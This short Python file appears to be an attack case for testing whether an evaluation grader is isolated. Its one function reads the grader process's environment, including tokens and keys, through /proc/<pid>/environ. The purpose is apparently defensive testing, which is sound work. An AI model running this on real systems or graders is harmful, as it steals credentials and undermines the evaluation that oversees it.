"""Read the grader's environment (tokens, keys) through /proc/<grader pid>/environ."""
DEFENCE = "isolation"


def attack(t):
    return open(f"/proc/{t['grader_pid']}/environ", "rb").read().decode("latin-1")
